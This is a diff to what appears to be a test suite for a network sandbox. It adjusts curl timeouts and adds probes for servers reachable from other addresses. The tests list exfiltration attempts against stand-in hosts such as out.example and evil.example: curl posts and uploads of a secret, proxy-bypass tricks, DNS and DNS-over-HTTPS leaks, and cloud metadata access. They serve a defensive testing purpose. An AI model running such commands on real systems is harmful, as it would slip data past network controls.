@@ -18,7 +18,7 @@ TCP = "s = socket.socket(); s.setblocking(False)\n"
 UNIX = "s = socket.socket(socket.AF_UNIX)\n"
 C = "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); libc.syscall.restype = ctypes.c_long\n"
 QUERY = "b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\7example\\0\\0\\1\\0\\1'"
-CURL = "curl -sk -m 5"
+CURL, CURL_OUT = "curl -sk -m 60", "curl -sk -m 5"  # the latter where nobody answers
 
 
 def refused(what: str) -> str:
@@ -49,10 +49,10 @@ WEB: dict[str, tuple[str, str]] = {
     "a post": ("to out.example", f"sh:{CURL} -d secret http://out.example/"),
     "an upload": ("to out.example", f"sh:echo secret | {CURL} -T - http://out.example/"),
     "a host of a profile": ("to cdn.cribl.io", f"sh:{CURL} https://cdn.cribl.io/telemetry/index.html?v=1"),
-    "without the proxy": (f"to {OUT}", f"sh:{CURL} --noproxy '*' http://{OUT}/secret"),
-    "by NO_PROXY": (f"to {OUT}", f"sh:NO_PROXY='*' no_proxy='*' {CURL} http://{OUT}/secret"),
-    "without variables": (f"to {OUT}", f"sh:env -i /usr/bin/{CURL} http://{OUT}/secret"),
-    "http2 without tls": ("to ", f"sh:{CURL} --http2-prior-knowledge --noproxy '*' http://{OUT}/"),
+    "without the proxy": (f"to {OUT}", f"sh:{CURL_OUT} --noproxy '*' http://{OUT}/secret"),
+    "by NO_PROXY": (f"to {OUT}", f"sh:NO_PROXY='*' no_proxy='*' {CURL_OUT} http://{OUT}/secret"),
+    "without variables": (f"to {OUT}", f"sh:env -i /usr/bin/{CURL_OUT} http://{OUT}/secret"),
+    "http2 without tls": ("to ", f"sh:{CURL_OUT} --http2-prior-knowledge --noproxy '*' http://{OUT}/"),
     "http 0.9": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 80)); s.send(b'GET /secret\\r\\n'); s.close()"),
     "half a request": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 80)); s.send(b'POST /secret HT'); s.close()"),
     "no byte": (f"to {OUT}", f"s = socket.create_connection(('{OUT}', 443)); s.close()"),
@@ -66,7 +66,7 @@ WEB: dict[str, tuple[str, str]] = {
         "try: c.wrap_socket(s, server_hostname='secret.example')\nexcept OSError: pass"),
     "raw tls": ("to ", f"sh:timeout 4 openssl s_client -connect {OUT}:443 </dev/null"),
     "tls of a mail server": ("other_port", f"sh:timeout 3 openssl s_client -starttls smtp -connect {OUT}:25 </dev/null"),
-    "dns over https": (f"to {OUT}", f"sh:{CURL} --noproxy '*' 'https://{OUT}/dns-query?dns=c2VjcmV0'"),
+    "dns over https": (f"to {OUT}", f"sh:{CURL_OUT} --noproxy '*' 'https://{OUT}/dns-query?dns=c2VjcmV0'"),
     "ipv6": (f"to {OUT6}", f"s = socket.create_connection(('{OUT6}', 80)); s.send(b'x'); s.close()"),
     "ipv4 in ipv6": (f"to {OUT}", "s = socket.socket(socket.AF_INET6)\n"
         f"s.connect(('::ffff:{OUT}', 443)); s.send(b'x'); s.close()"),
@@ -97,6 +97,8 @@ PORTS: dict[str, tuple[str, str]] = {
     "metadata of a cloud": (way.LINK_LOCAL, f"{TCP}s.connect_ex(('169.254.169.254', 80))"),
     "where no way leads": (way.UNREACHED, f"{TCP}s.connect_ex(('{NO_WAY}', 443))"),
     "where no way leads, another port": (way.UNREACHED, f"{TCP}s.connect_ex(('{NO_WAY}', 8443))"),
+    "a server for other machines": (CLOSED, "l = socket.create_server(('', 0)); s = socket.socket(); s.bind(('10.0.0.2', 0)); s.settimeout(1)\n"
+        "try: s.connect(('127.0.0.1', l.getsockname()[1]))\nexcept TimeoutError: sys.exit(7)"),
     "fast open": (CLOSED, refused(f"socket.socket().sendto(b'x', 0x20000000, ('{OUT}', 443))")),
     "a static program": (way.OTHER_PORT, """c:
 static long call(long n, long a, long b, long c) { long r; __asm__ volatile("syscall"
@@ -258,6 +260,8 @@ HARMLESS: dict[str, str] = {
         "urllib.request.urlopen(f'http://127.0.0.1:{s.server_port}/').read()",
     "a server of a child's": "sh:cd $(mktemp -d) && python3 -m http.server -b 127.0.0.1 8099 >/dev/null 2>&1 & s=$!\n"
         "for i in 1 2 3 4 5 6 7 8 9; do sleep .3; curl -s http://127.0.0.1:8099/ >/dev/null && break; done; kill $s",
+    "a server of its own, on every address": "for f, to in ((2, '127.0.0.1'), (2, '10.0.0.2'), (10, '::1'), (10, 'fd00::2')):\n"
+        "  s = socket.create_server(('', 0), family=f); c = socket.create_connection((to, s.getsockname()[1]), 5); c.send(b'x'); print(s.accept()[0].recv(1))",
     "a server of its own, ipv6": "s = socket.create_server(('::1', 0), family=10); socket.create_connection(s.getsockname()[:2])",
     "a unix server of its own": "import tempfile; at = tempfile.mkdtemp() + '/s'\n"
         "l = socket.socket(1); l.bind(at); l.listen(); s = socket.socket(1); s.connect(at); s.send(b'x'); print(l.accept()[0].recv(1))",
